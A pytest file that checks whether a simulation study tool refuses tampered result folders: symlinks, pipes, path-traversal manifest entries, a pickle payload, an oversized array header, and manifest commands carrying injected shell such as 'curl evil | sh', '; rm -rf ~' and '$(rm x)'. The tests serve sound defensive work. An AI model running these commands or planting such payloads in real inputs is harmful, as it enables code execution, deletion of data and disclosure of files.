"""Folders that somebody prepared: each is refused by verify, by rerun and by a study that goes on, in a sentence.

Keeps: nothing outside the folder is read, written or deleted, and nothing in it is executed.
Not here: accidents, such as flipped bits (test_verify, test_block_file) and kills (test_folder).
"""

import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from loaded import few_first
from studies import answer, file, small

from negotiation_sim.model.draws import BLOCK
from negotiation_sim.study import manifest
from negotiation_sim.study.folder import run_study, study_in

RUNS = 2 * BLOCK + 5


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A finished study of three blocks, beside a file that is none of its business."""
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "manifest.json").write_text("root:x:0:0", "utf-8")
    (tmp_path / "private" / "000001.npz").write_text("root:x:0:0", "utf-8")
    (tmp_path / "private" / "0.npz.0.part").write_text("half a letter", "utf-8")
    run_study(small(), tmp_path / "s", RUNS)
    return tmp_path / "s"


def link_to(name: str) -> Callable[[Path], None]:
    """Put a link in the place of a file of the study."""

    def prepare(folder: Path) -> None:
        path = folder / name
        path.rename(folder.parent / "moved")
        outside = folder.parent / "private"
        path.symlink_to(outside if name == "blocks" else outside / Path(name).name)

    return prepare


def pipe_at(name: str) -> Callable[[Path], None]:
    """Put a pipe there that nobody writes to: whoever opens it as a file waits for ever."""

    def prepare(folder: Path) -> None:
        (folder / name).unlink()
        os.mkfifo(folder / name)

    return prepare


def told(**changes: Any) -> Callable[[Path], None]:
    """Change the manifest, and make its checksum fit; None takes a key away."""

    def prepare(folder: Path) -> None:
        data = json.loads((folder / "manifest.json").read_bytes())
        del data["sha256"]
        for path, value in changes.items():
            *above, last = path.split("__")
            table = data
            for name in above:
                table = table[name]
            if value is None:
                del table[last]
            else:
                table[last] = value
        (folder / "manifest.json").write_bytes(manifest.to_bytes(data))

    return prepare


def blocks_of(member: Callable[[bytes], bytes], *, packed: bool = False) -> Callable[[Path], None]:
    """Change the array ``package`` of block 1; the label and the checksums of the archive fit again."""

    def prepare(folder: Path) -> None:
        path = study_in(folder).path(1)
        with zipfile.ZipFile(path) as archive:
            members, label = {name: archive.read(name) for name in archive.namelist()}, archive.comment
        members["package.npy"] = member(members["package.npy"])
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
            archive.comment = label
            for name, content in members.items():
                archive.writestr(name, content)

    return prepare


class Bomb:
    """What a pickle would do if it were ever read."""

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return (Path.write_text, (Path("executed"), "yes"))  # type: ignore[return-value]


def pickled(_: bytes) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([Bomb()], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def enormous(content: bytes) -> bytes:
    """A header that declares 10^15 numbers."""
    header = np.lib.format.magic(1, 0) + (118).to_bytes(2, "little")
    about = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000000), }"
    return header + about.ljust(117).encode() + b"\n" + content[128:]


def swapped(folder: Path) -> None:
    one, other = (study_in(folder).path(block) for block in (0, 1))
    held = one.read_bytes()
    one.write_bytes(other.read_bytes())
    other.write_bytes(held)


FOLDERS: dict[str, Callable[[Path], None]] = {
    "a manifest that is a link": link_to("manifest.json"),
    "a summary that is a link": link_to("summary.json"),
    "blocks that are a link": link_to("blocks"),
    "a block that is a link": link_to("blocks/000001.npz"),
    "a manifest that is a pipe": pipe_at("manifest.json"),
    "a block that is a pipe": pipe_at("blocks/000001.npz"),
    "a manifest without versions": told(study__made_with=None),
    "a manifest without a command": told(study__command=None),
    "a manifest without a version": told(version=None),
    "a manifest whose study is a text": told(study="../../private"),
    "a manifest that names other blocks": told(study__blocks=["../private/000001.npz"]),
    "a manifest of too many runs": told(runs=10**18),
    "a pickle": blocks_of(pickled),
    "an enormous array": blocks_of(enormous),
    "an array of another shape": blocks_of(lambda content: content[:-8]),
    "a packed block": blocks_of(lambda content: content, packed=True),
    "nothing in a block": blocks_of(lambda _: b""),
    "swapped blocks": swapped,
}


@pytest.mark.parametrize("name", few_first(FOLDERS, [*FOLDERS][::3]))
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_prepared_folder_is_refused_in_a_sentence(
    name: str, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scenario = file(folder.parent)
    FOLDERS[name](folder)
    monkeypatch.chdir(folder.parent)
    before = {path: path.read_bytes() for path in (folder.parent / "private").iterdir()}
    commands = {
        "verify": ("study", "verify", folder),
        "study": ("study", "run", scenario, folder, "--runs", RUNS),
        "status": ("study", "status", folder),
        "rerun": ("rerun", folder / "manifest.json"),
    }
    answers = {command: answer(*arguments) for command, arguments in commands.items()}
    assert answers["verify"][0] in (2, 3), answers
    assert answers["study"][0] == 2, answers
    if "manifest" in name or "summary" in name:
        assert answers["rerun"][0] == 2, answers
    for code, out, err in answers.values():
        assert "Traceback" not in out + err
        assert "root:x" not in out + err
        assert code == 0 or 0 < len((out + err).splitlines()) <= 5, (out, err)
    assert not (folder.parent / "executed").exists()
    assert {path: path.read_bytes() for path in (folder.parent / "private").iterdir()} == before


def test_the_folder_is_sound_before_it_is_touched(folder: Path) -> None:
    """The negative control of all of them."""
    assert answer("study", "verify", folder)[0] == 0
    assert answer("rerun", folder / "manifest.json")[0] == 0
    assert answer("study", "run", file(folder.parent), folder, "--runs", RUNS)[0] == 0


@pytest.mark.parametrize(("seed", "variant"), [(8, None), (7, "patient")])
def test_a_study_never_adopts_the_blocks_of_another(seed: int, variant: str | None, tmp_path: Path) -> None:
    """The manifest of a killed study is gone; another study in its folder once took its blocks for its own."""
    run_study(small(), tmp_path / "s", 3 * BLOCK)
    for name in ("manifest.json", "summary.json", "blocks/000001.npz"):
        (tmp_path / "s" / name).unlink()
    arguments = ["study", "run", file(tmp_path), tmp_path / "s", "--runs", 3 * BLOCK, "--seed", seed]
    code, _, err = answer(*arguments, *(["--variant", variant] if variant else []))
    assert code == 2
    assert "block 0, " in err
    assert "it belongs to another study or block" in err
    if variant is None:
        assert "seed '7' there, '8' here" in err
    # Negative control: the study that they belong to goes on with them.
    assert not (tmp_path / "s" / "manifest.json").exists()
    arguments[-1] = 7
    code, _, err = answer(*arguments)
    assert (code, err) == (0, "going on with a study: 4,096 runs are there already\n")


@pytest.mark.parametrize(
    ("runs", "seed", "why"),
    [
        (10, 2**200, "seed must be from 0"),
        (10, True, "seed must be a whole"),
        (True, 1, "runs must be"),
        (0, 1, "runs"),
    ],
)
def test_what_could_not_be_read_again_is_never_written(
    runs: Any, seed: Any, why: str, tmp_path: Path
) -> None:
    with pytest.raises(ValueError, match=why):
        run_study(small(), tmp_path / "s", runs, seed)
    assert not (tmp_path / "s").exists()
    run_study(small(), tmp_path / "s", np.int64(10), np.uint8(3))
    assert answer("study", "verify", tmp_path / "s")[0] == 0
    assert answer("rerun", tmp_path / "s" / "manifest.json")[0] == 0


def test_a_command_in_a_manifest_is_only_offered_if_it_goes_on_with_a_study(folder: Path) -> None:
    """Whoever copies what is printed must not run what somebody else wrote."""
    (folder / "summary.json").unlink()
    study_in(folder).path(1).unlink()
    offered = "To go on:\n  simulate study run fence.toml s\n"
    told(study__command="simulate study run fence.toml s")(folder)
    assert offered in answer("study", "status", folder)[1]
    for command in (
        "curl evil | sh",
        "simulate study run x; rm -rf ~",
        "simulate study run $(rm x)",
        "simulate study run \x1b[8mx",
    ):
        told(study__command=command)(folder)
        code, out, _ = answer("study", "status", folder)
        assert code == 0
        assert "To go on:" not in out
        assert command not in out
